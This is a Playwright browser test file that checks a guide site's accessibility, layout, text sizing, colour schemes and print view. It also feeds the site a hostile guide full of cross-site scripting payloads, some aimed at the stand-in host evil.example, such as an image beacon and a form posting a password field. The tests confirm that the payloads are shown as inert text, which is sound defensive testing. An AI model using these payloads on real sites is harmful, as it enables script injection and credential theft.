"""How a guide's page looks and what it lets in: every width, scheme and size of text, and hostile guides."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from tests.bot.app.shelf import shelf
from tests.bot.app.test_browser import CONTRAST, Visit

GUIDE = "/guides/ai-ml"
HOSTILE = """---
title: "<script>alert('title')</script>"
summary: "\\"><img src=http://evil.example/s.png onerror=alert(1)>"
---

## A <img src=x onerror=alert(2)> {#a"onclick="alert(3)}

<script>alert(4)</script><iframe src="http://evil.example"></iframe>

![beacon](http://evil.example/b.png) [press](javascript:alert(5)) [data](data:text/html,<script>alert(6)</script>)

### </a><form action="http://evil.example"><input name=password> {#texts}

Text.[^x]

| <svg onload=alert(7)> | b |
|---|---|
| <style>body{display:none}</style> | 2 |

[^x]: <b onmouseover=alert(8)>note</b> [go](javascript:alert(9))
"""
SPLIT_WORDS = """() => {
  const split = [];
  const range = document.createRange();
  for (const cell of document.querySelectorAll("th, td")) {
    const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
      for (const word of walker.currentNode.data.matchAll(/[\\p{L}\\p{N}]+/gu)) {
        range.setStart(walker.currentNode, word.index);
        range.setEnd(walker.currentNode, word.index + word[0].length);
        if (range.getClientRects().length > 1) split.push(word[0]);
      }
    }
  }
  return split;
}"""
CUT_OFF = """() => [...document.querySelectorAll("body *")].filter((element) => {
  const style = getComputedStyle(element);
  const hides = ["hidden", "clip"].includes(style.overflowX) && !element.closest(".hidden-words, .place, label");
  return hides && element.scrollWidth > element.clientWidth + 1;
}).map((element) => element.outerHTML.slice(0, 80))"""
WIDE = "document.documentElement.scrollWidth - innerWidth"
LINES = """() => [...document.querySelectorAll("main > p")].map((paragraph) => {
  const range = document.createRange();
  range.selectNodeContents(paragraph);
  const tops = [...range.getClientRects()].map((line) => Math.round(line.bottom / 12));
  return [paragraph.textContent.length, new Set(tops).size];
}).filter(([, lines]) => lines > 3).map(([letters, lines]) => letters / (lines - 0.5))"""

pytestmark = pytest.mark.browser


@pytest.fixture(params=["light", "dark"])
def scheme(request: pytest.FixtureRequest) -> Any:
    """What the reader's system is set to."""
    return request.param


@pytest.mark.parametrize("path", ["/guides", GUIDE])
@pytest.mark.parametrize("width", [1280, 360])
def test_everybody_can_use_it(browser: Browser, address: str, path: str, width: int, scheme: Any) -> None:
    """axe finds nothing serious or critical, and text has a contrast of 4.5 to 1, with everything open as well."""
    with browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme) as context:
        visit = Visit(context.new_page(), address + path)
        visit.page.add_style_tag(content="*{transition:none!important}")
        if path == GUIDE:
            _open_everything(visit.page)
        assert _faults(visit.page) == []
        assert visit.page.evaluate(CONTRAST) == []
        assert visit.complaints == []
        assert visit.hosts == {"127.0.0.1"}


def test_a_search_without_a_match_can_be_used_by_everybody(browser: Browser, address: str, scheme: Any) -> None:
    """With its link to ask instead."""
    with browser.new_context(viewport={"width": 360, "height": 740}, color_scheme=scheme) as context:
        visit = Visit(context.new_page(), address + GUIDE)
        _search(visit.page, "quantum teapot")
        expect(visit.page.get_by_role("link", name="Ask instead")).to_be_visible()
        assert _faults(visit.page) == []


@pytest.mark.parametrize("name", ["ai-ml", "career-paths"])
@pytest.mark.parametrize("width", [320, 360, 390, 768, 1000])
def test_nothing_scrolls_sideways_but_tables_and_no_word_is_broken(
    browser: Browser, address: str, name: str, width: int
) -> None:
    """Cells break between words only; where they have no room the table scrolls, and can be reached by keyboard."""
    with browser.new_context(viewport={"width": width, "height": 740}) as context:
        page = Visit(context.new_page(), f"{address}/guides/{name}").page
        assert page.evaluate(WIDE) <= 0
        assert page.evaluate(SPLIT_WORDS) == []
        boxes = page.locator(".table-scroll").all()
        wide = [box for box in boxes if box.evaluate("(box) => box.scrollWidth > box.clientWidth + 1")]
        assert len(wide) == page.get_by_role("region", name="can be scrolled sideways").count()
        assert wide or width > 700


@pytest.mark.parametrize("width", [1280, 360])
@pytest.mark.parametrize("size", ["200%", "larger", "largest"])
def test_larger_text_loses_nothing(browser: Browser, address: str, width: int, size: str) -> None:
    """Set by the browser or chosen on the page: no sideways scrolling, nothing cut off, and the search still there."""
    with browser.new_context(viewport={"width": width, "height": 800}) as context:
        page = Visit(context.new_page(), address + GUIDE).page
        before = _letter_size(page)
        change = f"style.fontSize = '{size}'" if "%" in size else f"dataset.text = '{size}'"
        page.evaluate(f"document.documentElement.{change}")
        assert _letter_size(page) >= 1.2 * before
        _search(page, "python")
        assert page.evaluate(WIDE) <= 0
        assert page.evaluate(CUT_OFF) == []
        expect(page.get_by_role("button", name="Next match")).to_be_in_viewport(ratio=1)


def test_lines_are_of_a_length_to_read(browser: Browser, address: str) -> None:
    """60 to 75 letters on a desktop, on average."""
    with browser.new_context(viewport={"width": 1280, "height": 800}) as context:
        lengths = Visit(context.new_page(), address + GUIDE).page.evaluate(LINES)
        assert 60 <= sum(lengths) / len(lengths) <= 75


def test_the_chosen_scheme_is_stronger_than_the_systems(browser: Browser, address: str) -> None:
    """`data-theme` decides, on any page."""
    with browser.new_context(color_scheme="light") as context:
        page = Visit(context.new_page(), address + GUIDE).page
        paper = "getComputedStyle(document.body).backgroundColor"
        light = page.evaluate(paper)
        page.evaluate("document.documentElement.dataset.theme = 'dark'")
        dark = page.evaluate(paper)
        assert dark != light
        page.emulate_media(color_scheme="dark")
        page.evaluate("document.documentElement.dataset.theme = 'light'")
        assert page.evaluate(paper) == light


def test_paper_has_the_text_alone(browser: Browser, address: str) -> None:
    """Black on white, whole tables, and nothing to press."""
    with browser.new_context(color_scheme="dark") as context:
        page = Visit(context.new_page(), address + GUIDE).page
        page.emulate_media(media="print")
        for name in (".side", ".top", ".ask", ".footnote-back", ".ways-on"):
            expect(page.locator(name).first).to_be_hidden()
        assert page.evaluate("getComputedStyle(document.querySelector('main')).color") == "rgb(29, 38, 41)"
        assert page.locator(".table-scroll").first.evaluate("(box) => getComputedStyle(box).overflowX") == "visible"


@pytest.fixture
def hostile(browser: Browser, tmp_path: Path) -> Iterator[Visit]:
    """A guide by somebody who means ill, opened."""
    with shelf(tmp_path, {"hostile": HOSTILE}) as address, browser.new_context() as context:
        yield Visit(context.new_page(), f"{address}/guides/hostile")


def test_a_hostile_guide_is_text(hostile: Visit) -> None:
    """No dialog, no request, no element of its own; also when it is searched and its footnote is opened."""
    _search(hostile.page, "alert")
    hostile.page.keyboard.press("Escape")
    hostile.page.locator(".footnote-ref a").first.click()
    expect(hostile.page.get_by_role("dialog")).to_contain_text("note")
    hostile.page.goto(hostile.page.url.rpartition("/")[0])
    expect(hostile.page.get_by_role("heading", level=2)).to_have_text("<script>alert('title')</script>")
    assert hostile.complaints == []
    assert hostile.hosts == {"127.0.0.1"}


def test_a_hostile_guide_brings_no_element_in(hostile: Visit) -> None:
    """Its title is its words, its links lead nowhere unsafe, and its ids take nothing from the page's scripts."""
    expect(hostile.page.get_by_role("heading", level=1)).to_have_text("<script>alert('title')</script>")
    expect(hostile.page.locator("main :is(script, iframe, img, form, input, style, svg, b)")).to_have_count(0)
    expect(hostile.page.locator("main [onclick], main [onerror], main [onmouseover]")).to_have_count(0)
    expect(hostile.page.locator("a[href^=javascript], a[href^=data]")).to_have_count(0)
    expect(hostile.page.get_by_role("search")).to_be_visible()


def _open_everything(page: Page) -> None:
    """A search with matches, the contents and a footnote."""
    _search(page, "python")
    page.locator(".footnote-ref a").first.evaluate("(reference) => reference.click()")
    page.locator(".contents details").evaluate("(details) => { details.open = true; }")


def _search(page: Page, words: str) -> None:
    page.get_by_role("searchbox").fill(words)
    page.get_by_role("searchbox").press("Enter")
    expect(page.locator(".found")).to_be_visible()


def _faults(page: Page) -> list[str]:
    """What axe holds to be serious or critical."""
    found = Axe().run(page).response["violations"]
    assert page.evaluate("typeof axe.version") == "string"
    return [
        f"{each['id']}: {node['html'][:120]}"
        for each in found
        if each["impact"] in {"serious", "critical"}
        for node in each["nodes"]
    ]


def _letter_size(page: Page) -> float:
    return float(page.evaluate("parseFloat(getComputedStyle(document.querySelector('main p')).fontSize)"))
